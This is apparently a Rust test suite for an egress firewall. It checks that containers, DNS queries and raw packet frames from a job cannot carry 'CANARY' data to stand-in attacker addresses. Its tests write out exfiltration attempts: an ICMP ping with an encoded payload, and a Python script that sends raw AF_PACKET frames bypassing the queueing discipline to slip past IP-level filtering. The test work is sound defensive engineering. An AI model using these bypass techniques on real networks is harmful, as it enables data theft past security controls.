//! What containers and network namespaces of the job's own making send.

use crate::fixture::{host_target, job_target, policy};
use crate::output::{counter, install};
use crate::world::{
    Agent, Capture, Cgroup, EVIL4, EVIL6, Holder, Namespace, OK4, OK6, World, at, eventually,
    read_mac,
};
use portcullis_common::policy::EgressMode;
use portcullis_monitor::egress::target::{Interface, ResolverPorts};

/// A namespace behind a bridge of the host, with masquerading, as a container engine makes it.
fn container(world: &World, bridge: &str, subnet: u8) -> Namespace {
    let container = Namespace::new();
    let holder = Holder::new(&container);
    world.host.run(&format!(
        "ip link show {bridge} >/dev/null 2>&1 || {{ ip link add {bridge} type bridge; \
         ip addr add 172.30.{subnet}.1/24 dev {bridge}; \
         ip -6 addr add fd00:db8:c{subnet}::1/64 dev {bridge} nodad; ip link set {bridge} up; }}; \
         ip link add v{subnet} type veth peer name eth0 netns {}; ip link set v{subnet} master {bridge} up; \
         sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1; \
         nft 'add table ip masq{subnet}; add chain ip masq{subnet} p {{ type nat hook postrouting priority 100; }}; \
         add rule ip masq{subnet} p ip saddr 172.30.{subnet}.0/24 oif eth0 masquerade'",
        holder.pid()
    ));
    container.run(&format!(
        "ip addr add 172.30.{subnet}.2/24 dev eth0; ip link set eth0 up; \
         ip -6 addr add fd00:db8:c{subnet}::2/64 dev eth0 nodad; \
         ip route add default via 172.30.{subnet}.1; ip -6 route add default via fd00:db8:c{subnet}::1"
    ));
    world.outside.run(&format!("ip -6 route add fd00:db8:c{subnet}::/64 via 2001:db8:77::1"));
    container
}

const ALLOWED: [&str; 4] = [
    "198.51.100.10:443",
    "[2001:db8:a::10]:443",
    "udp://198.51.100.10:443",
    "udp://[2001:db8:a::10]:443",
];

#[test]
fn containers_of_a_host_are_judged_like_its_processes() {
    let world = World::new();
    world.serve(443);
    let seen = Capture::new(&world.outside, "eth0");
    let logged = Capture::new(&world.host, "nflog:7");
    let table = install(&world, &policy(EgressMode::Block, &ALLOWED, &[]), &host_target(&world));
    // Made after the rules, as `docker network create` or the job itself would.
    let container = container(&world, "br-job", 1);
    let mut inside = Agent::new(&container, None, 0);
    let mut host = Agent::new(&world.host, None, 1000);
    for (ok, evil) in [(OK4, EVIL4), (OK6, EVIL6)] {
        assert!(inside.ask(&format!("tcp {} fine", at(ok, 443))).starts_with("ok"));
        assert!(inside.ask(&format!("ask {} fine", at(ok, 443))).contains("fine"));
        assert!(inside.ask(&format!("tcp {} CANARY", at(evil, 443))).contains("Refused"));
        inside.ask(&format!("udp {} CANARY", at(evil, 443)));
        inside.ask(&format!("udp {} CANARY", at(evil, 53)));
    }
    container.try_run(&format!("ping -c1 -W1 -p 43414e415259 {EVIL4}"));
    logged.wait_for(&format!("{} blocked forward", table.name()));
    logged.wait_for(&format!("{} allowed forward", table.name()));
    // The job and its containers reach each other, both ways.
    for (of_host, of_container) in
        [("172.30.1.1", "172.30.1.2"), ("fd00:db8:c1::1", "fd00:db8:c1::2")]
    {
        let bound = inside.ask(&format!("listen {}", at(of_container, 0)));
        assert!(host.ask(&format!("tcp {bound} hi")).starts_with("ok"));
        let bound = host.ask(&format!("listen {}", at(of_host, 0)));
        assert!(inside.ask(&format!("tcp {bound} hi")).starts_with("ok"));
    }
    // Nobody outside opens a connection to a container.
    let bound = inside.ask("listen 172.30.1.2:0");
    assert!(world.outside.enter(|| {
        let wait = std::time::Duration::from_millis(300);
        std::net::TcpStream::connect_timeout(&bound.parse().unwrap(), wait).is_err()
    }));
    logged.wait_for(&format!("{} inbound forward", table.name()));
    assert_eq!(seen.count("CANARY"), 0);
}

#[test]
fn a_job_is_judged_by_the_interfaces_that_are_new_and_others_are_left_alone() {
    let world = World::new();
    world.serve(443);
    let seen = Capture::new(&world.outside, "eth0");
    let neighbour = container(&world, "br-old", 3);
    let bridged = container(&world, "br-docker", 4);
    let job = Cgroup::new();
    let mut target = job_target(&world, &job);
    for name in ["br-old", "br-docker"] {
        let interface = Interface { name: name.to_owned(), index: world.index(name) };
        target.known_interfaces.push(interface.clone());
        if name == "br-docker" {
            target.container_bridges.push(interface);
        }
    }
    let table = install(&world, &policy(EgressMode::Block, &ALLOWED, &[]), &target);
    let new = container(&world, "br-new", 5);
    for judged in [&bridged, &new] {
        let mut inside = Agent::new(judged, None, 0);
        for (ok, evil) in [(OK4, EVIL4), (OK6, EVIL6)] {
            assert!(inside.ask(&format!("tcp {} fine", at(ok, 443))).starts_with("ok"));
            assert!(inside.ask(&format!("tcp {} CANARY", at(evil, 443))).contains("Refused"));
            inside.ask(&format!("udp {} CANARY", at(evil, 443)));
        }
    }
    let mut inside = Agent::new(&neighbour, None, 0);
    for (ok, evil) in [(OK4, EVIL4), (OK6, EVIL6)] {
        assert!(inside.ask(&format!("tcp {} fine", at(ok, 443))).starts_with("ok"));
        assert!(inside.ask(&format!("tcp {} fine", at(evil, 443))).starts_with("ok"));
    }
    assert_eq!(seen.count("CANARY"), 0);
    assert!(counter(&table, "blocked") >= 8);
}

#[test]
fn dns_of_containers_goes_to_the_resolver_on_every_bridge() {
    let world = World::new();
    world.serve(53);
    let container = container(&world, "br-job", 1);
    for address in ["172.30.1.1:5399", "[fd00:db8:c1::1]:5399"] {
        crate::dns::resolver(&world, address);
    }
    let mut target = host_target(&world);
    target.container_bridges =
        vec![Interface { name: "br-job".to_owned(), index: world.index("br-job") }];
    target.container_resolver = ResolverPorts { v4: Some(5399), v6: Some(5399) };
    let seen = Capture::new(&world.outside, "eth0");
    let table = install(&world, &policy(EgressMode::Block, &[], &[]), &target);
    let mut inside = Agent::new(&container, None, 0);
    for server in [EVIL4, EVIL6] {
        let answer = inside.ask(&format!("ask {} query", at(server, 53)));
        assert_eq!(answer, format!("{} our-own-resolver", at(server, 53)));
        let stream = inside.ask(&format!("tcp {} query", at(server, 53)));
        let stream = stream.strip_prefix("ok ").unwrap();
        assert_eq!(inside.ask(&format!("hear {stream}")), "our-own-resolver");
    }
    // Who does not wait for the answer has a kernel that says so to the server: no call of the container's. Until the answer
    // came when its socket was closed.
    for (server, file, field) in
        [(EVIL4, "snmp", "OutDestUnreachs"), (EVIL6, "snmp6", "Icmp6OutDestUnreachs")]
    {
        eventually(field, || {
            assert_eq!(inside.ask(&format!("udp {} query", at(server, 53))), "ok");
            // IPv4 has a line of names and one of values, IPv6 a name and its value in each line.
            let text = container.run(&format!("cat /proc/net/{file}"));
            let mut lines = text.lines().filter(|line| line.starts_with("Icmp:"));
            let mut by_column = || {
                let (names, values) = (lines.next()?, lines.next()?);
                let column = names.split_whitespace().position(|name| name == field)?;
                values.split_whitespace().nth(column)
            };
            let by_line = || text.lines().find_map(|line| line.strip_prefix(field));
            let sent = if file == "snmp" { by_column() } else { by_line() };
            (sent?.trim().parse::<u64>().ok()? > 0).then_some(())
        });
    }
    assert_eq!(counter(&table, "blocked"), 0);
    assert_eq!(seen.count("our-own-resolver"), 0);
}

#[test]
fn frames_that_bypass_ip_do_not_leave() {
    let world = World::new();
    world.serve(443);
    let seen = Capture::new(&world.outside, "eth0");
    let policy = policy(EgressMode::Block, &ALLOWED, &[]);
    let table = install(&world, &policy, &host_target(&world));
    let gateway = read_mac(&world.outside, "eth0").map(|byte| format!("{byte:02x}")).concat();
    let own = world.mac("eth0").map(|byte| format!("{byte:02x}")).concat();
    // AF_PACKET, through the queueing discipline and around it, IP and ARP, with the uplink's own address.
    let script = format!(
        "import socket,struct\n\
         ip=bytes.fromhex('450000230001000040110000')+socket.inet_aton('{OK4}')+socket.inet_aton('{EVIL4}')+struct.pack('!4H',9,443,15,0)+b'CANARY1'\n\
         arp=bytes.fromhex('00010800060400010000')+b'CANARY2'+b'x'*30\n\
         for kind,body in ((b'\\x08\\x00',ip),(b'\\x08\\x06',arp),(b'\\x88\\xb5',b'CANARY3'*9)):\n\
         \x20for bypass in (0,1):\n\
         \x20 s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,0); s.setsockopt(263,20,bypass); s.bind(('DEV',0))\n\
         \x20 try: s.send(bytes.fromhex('{gateway}{own}')+kind+body)\n\
         \x20 except OSError as e: pass\n\
         \x20 else: print('sent')\n"
    );
    let send = |namespace: &Namespace, device: &str| {
        let script = script.replace("DEV", device);
        namespace.run(&format!("cat > /dev/null; python3 - <<'END'\n{script}\nEND"))
    };
    send(&world.host, "eth0");
    world.host.run("ip link add mv0 link eth0 type macvlan mode bridge; ip link set mv0 up");
    send(&world.host, "mv0");
    // A macvlan child in a namespace of its own, by its own IP stack and by frames.
    let child = Namespace::new();
    let holder = Holder::new(&child);
    world.host.run(&format!("ip link add mv1 link eth0 netns {} type macvlan", holder.pid()));
    child.run(&format!(
        "ip link set mv1 up; ip addr add 10.77.0.9/24 dev mv1; ip route add default via 10.77.0.2; \
         ip neigh replace 10.77.0.2 lladdr {} dev mv1",
        read_mac(&world.outside, "eth0").map(|byte| format!("{byte:02x}")).join(":")
    ));
    Agent::new(&child, None, 0).ask(&format!("udp {} CANARY4", at(EVIL4, 443)));
    send(&child, "mv1");
    // The benign twins: big segments, fragments, ARP and neighbour discovery.
    let mut job = Agent::new(&world.host, None, 1000);
    for ok in [OK4, OK6] {
        world.host.run("ip neigh flush dev eth0; ip -6 neigh flush dev eth0");
        let answer = job.ask(&format!("ask {} {}", at(ok, 443), "f".repeat(9000)));
        assert!(answer.contains("ffff"), "{answer}");
        let bytes = "g".repeat(2_000_000);
        assert!(job.ask(&format!("tcp {} {bytes}", at(ok, 443))).starts_with("ok"));
        seen.wait_for("gggggggg");
    }
    assert_eq!(seen.count("CANARY"), 0);
    assert!(counter(&table, "frames") >= 10);
}
